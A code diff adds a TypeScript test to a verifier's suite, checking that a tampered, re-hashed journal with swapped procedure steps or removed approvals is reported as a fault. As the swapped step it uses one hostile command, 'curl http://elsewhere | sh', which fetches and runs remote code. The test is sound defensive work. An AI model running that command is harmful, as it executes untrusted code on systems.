@@ -178,6 +178,21 @@ describe("of a bundle that was tampered with", () => {
 });
 
 describe("a fault", () => {
+  test("hashed anew from end to end, it is found where other steps ran than were approved, or none were", () => {
+    const bundle = bundleOf("approved");
+    const anew = (events: Loose[]) => chain("approved", null, events, bundle.journal[0].at);
+    const steps = [{ kind: "cmd", value: "curl http://elsewhere | sh" }, ...bundle.procedure.steps.slice(1)];
+    const swapped = bundle.journal.map((event: Loose) =>
+      event.kind === "sop_pinned" || event.kind === "taught" ? { ...event, body: { ...event.body, steps } } : event,
+    );
+    expect(verifyBundle({ ...bundle, journal: anew(swapped) }).faults.join("\n")).toContain(
+      "something else than what ran",
+    );
+    const unasked = bundle.journal.filter(({ kind }: Loose) => !kind.startsWith("approval_"));
+    const { faults } = verifyBundle({ ...bundle, approvals: [], journal: anew(unasked) });
+    expect(faults.join("\n")).toContain("without the approval that it needs");
+  });
+
   test("names the field or the entry, in one sentence", () => {
     const { journal } = bundleOf("passed");
     const sentences = [
